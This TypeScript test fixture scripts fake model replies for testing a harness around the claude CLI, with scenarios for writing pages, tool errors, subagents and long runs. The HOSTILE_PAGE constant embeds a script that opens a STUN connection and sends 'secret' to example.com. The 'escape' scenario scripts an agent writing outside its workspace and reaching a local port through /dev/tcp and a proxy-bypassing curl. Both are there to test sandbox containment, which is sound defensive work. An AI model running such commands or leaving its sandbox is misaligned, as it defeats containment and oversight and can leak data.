/**
 * Scripted behaviours for the real `claude` CLI. A run's scenario is named by a marker
 * `SCENARIO:<name>` in its prompt (the first user message of each request); the step is the number
 * of assistant messages already in the conversation, so the script is stateless and retry-safe.
 */
import type { Reply, Script } from './model-server'

type Msg = { role: string; content: string | { type: string; text?: string }[] }
type Step = (ctx: { step: number; toolNames: string[]; text: string }) => Reply

export const prompt = (scenario: string, words = '') => `SCENARIO:${scenario} ${words}`.trim()

function firstUserText(messages: Msg[] | undefined): string {
  const first = messages?.find((m) => m.role === 'user')
  if (!first) return ''
  if (typeof first.content === 'string') return first.content
  return first.content.map((b) => (b.type === 'text' ? (b.text ?? '') : '')).join('\n')
}

export const LANDING_PAGE = `<!doctype html>
<html lang="en">
<head><meta charset="utf-8"><title>Acme Rockets</title>
<style>
body{font-family:sans-serif;margin:0;color:#1d2433}
header{background:#2b59c3;color:#fff;padding:64px 32px;text-align:center}
.cards{display:flex;gap:16px;padding:32px;flex-wrap:wrap}
.card{flex:1 1 200px;border:1px solid #ccd;border-radius:8px;padding:16px}
</style></head>
<body>
<header><h1>Acme Rockets</h1><p>Reach orbit before lunch.</p><a href="#buy">Get started</a></header>
<section class="cards">
<div class="card"><h2>Fast</h2><p>Zero to orbit in 8 minutes.</p></div>
<div class="card"><h2>Safe</h2><p>Three independent abort systems.</p></div>
<div class="card"><h2>Green</h2><p>Methane engines, reusable boosters.</p></div>
</section>
</body></html>
`

/** The page a "bad" run makes: twelve loud cards crammed together. */
export const CLUTTERED_PAGE = LANDING_PAGE.replace('#2b59c3', '#c3262b')
  .replace('padding:64px 32px', 'padding:12px')
  .replace(
    '</section>',
    Array.from({ length: 9 }, (_, i) => `<div class="card" style="background:#ffe36e"><h2>Deal ${i + 1}</h2><p>Buy now!!!</p></div>`).join(
      '\n'
    ) + '\n</section>'
  )

const done = (text: string): Reply => ({ text })

/** A page an adversarial run might make: taller than a screenshot can be, and trying to get out. */
export const HOSTILE_PAGE = `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Tall</title></head>
<body style="margin:0;font-family:sans-serif">
<div style="height:30000px;background:linear-gradient(#ffffff,#2b59c3)"><h1>A very tall page</h1></div>
<script>
try { const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:3478' }] }); pc.createDataChannel('x'); pc.createOffer().then((o) => pc.setLocalDescription(o)) } catch (e) {}
fetch('http://example.com/collect?d=secret').catch(() => {})
</script>
</body></html>
`

/** Each scenario: the reply for step n (0-based). */
export const SCENARIOS: Record<string, Step> = {
  'write-file': ({ step }) =>
    [
      { text: 'I will write the landing page.', toolUses: [{ name: 'Write', input: { file_path: 'index.html', content: LANDING_PAGE } }] },
      { toolUses: [{ name: 'Read', input: { file_path: 'index.html' } }] },
      done('Wrote index.html: a landing page with a header and three cards.')
    ][Math.min(step, 2)] as Reply,

  'hostile-page': ({ step }) =>
    [
      { text: 'Writing the page.', toolUses: [{ name: 'Write', input: { file_path: 'index.html', content: HOSTILE_PAGE } }] },
      done('Wrote index.html.')
    ][Math.min(step, 1)] as Reply,

  'write-cluttered': ({ step }) =>
    [
      { toolUses: [{ name: 'Bash', input: { command: 'ls', description: 'Look around' } }] },
      { text: 'Writing the page.', toolUses: [{ name: 'Write', input: { file_path: 'index.html', content: CLUTTERED_PAGE } }] },
      done('Wrote index.html with twelve cards.')
    ][Math.min(step, 2)] as Reply,

  'tool-errors': ({ step }) =>
    [
      { toolUses: [{ name: 'Read', input: { file_path: '/definitely/not/here/config.json' } }] },
      {
        text: 'That file does not exist; trying the build.',
        toolUses: [{ name: 'Bash', input: { command: 'echo building && exit 3', description: 'Run the build' } }]
      },
      { toolUses: [{ name: 'Bash', input: { command: 'ls /no/such/dir', description: 'List the output folder' } }] },
      done('The build failed: the config file is missing and the command exited with 3.')
    ][Math.min(step, 3)] as Reply,

  long: ({ step }) => {
    const steps = 28
    if (step >= steps) return done(`Finished all ${steps} steps.`)
    if (step % 4 === 3)
      return {
        thinking: `Step ${step}: checking progress so far.`,
        toolUses: [{ name: 'Write', input: { file_path: `notes-${step}.txt`, content: `step ${step}\n` } }]
      }
    return {
      text: step % 5 === 0 ? `Working on step ${step}.` : undefined,
      toolUses: [{ name: 'Bash', input: { command: `echo step ${step}`, description: `Step ${step}` } }]
    } as Reply
  },

  subagent: ({ step, toolNames }) => {
    const agentTool = toolNames.includes('Agent') ? 'Agent' : 'Task'
    if (step === 0)
      return {
        text: 'I will ask a helper to look around.',
        toolUses: [
          {
            name: agentTool,
            input: {
              description: 'Survey the workspace',
              prompt: prompt('sub-helper', 'List what is in the workspace and report back.'),
              subagent_type: 'general-purpose'
            }
          }
        ]
      }
    return done('The helper surveyed the workspace; all good.')
  },

  'sub-helper': ({ step }) =>
    step === 0
      ? { toolUses: [{ name: 'Bash', input: { command: 'echo helper was here', description: 'Look around' } }] }
      : done('Workspace surveyed: nothing unusual.'),

  /**
   * An adversarial run: writes inside its workspace (allowed), then tries to leave it: a file written
   * by Bash and by Write into OUT, a direct TCP connection to 127.0.0.1:PORT, and an HTTP request to
   * it through the sandbox's proxy. The prompt carries `OUT=<folder> PORT=<port>`.
   */
  escape: ({ step, text }) => {
    const out = text.match(/OUT=(\S+)/)?.[1] ?? '/nonexistent'
    const port = text.match(/PORT=(\d+)/)?.[1] ?? '9'
    const steps: Reply[] = [
      {
        toolUses: [
          {
            name: 'Bash',
            input: { command: `echo inside > bash-inside.txt; echo escaped > ${out}/bash.txt; echo rc=$?`, description: 'Write files' }
          }
        ]
      },
      {
        toolUses: [
          {
            name: 'Bash',
            input: { command: `bash -c 'echo direct > /dev/tcp/127.0.0.1/${port}'; echo rc=$?`, description: 'Connect to a local port' }
          }
        ]
      },
      {
        toolUses: [
          {
            name: 'Bash',
            input: {
              command: `curl -sS -m 5 --noproxy '' --data via-proxy http://127.0.0.1:${port}/; echo rc=$?`,
              description: 'Send a request'
            }
          }
        ]
      },
      { toolUses: [{ name: 'Write', input: { file_path: 'write-inside.txt', content: 'inside\n' } }] },
      { toolUses: [{ name: 'Write', input: { file_path: `${out}/write.txt`, content: 'escaped\n' } }] },
      done('Tried to leave the workspace.')
    ]
    return steps[Math.min(step, steps.length - 1)]
  },

  slow: ({ step }) =>
    step >= 200
      ? done('slow run finished')
      : { delayMs: 400, toolUses: [{ name: 'Bash', input: { command: `echo slow ${step}`, description: 'tick' } }] }
}

export interface ScenarioOptions {
  /** extra scenarios or overrides */
  scenarios?: Record<string, Step>
}

/** The server script: finds the scenario and step of each request. */
export function scenarioScript(opts: ScenarioOptions = {}): Script {
  const all = { ...SCENARIOS, ...opts.scenarios }
  return ({ body }) => {
    const messages = (body?.messages ?? []) as Msg[]
    const marker = firstUserText(messages).match(/SCENARIO:([A-Za-z0-9_-]+)/)
    const toolNames = ((body?.tools ?? []) as { name: string }[]).map((t) => t.name)
    if (!marker) {
      // Claude Code's side requests (titles, summaries, checks): a short plain answer.
      return { text: 'OK' }
    }
    const scenario = all[marker[1]]
    if (!scenario) return { text: `unknown scenario ${marker[1]}` }
    const step = messages.filter((m) => m.role === 'assistant').length
    return scenario({ step, toolNames, text: firstUserText(messages) })
  }
}
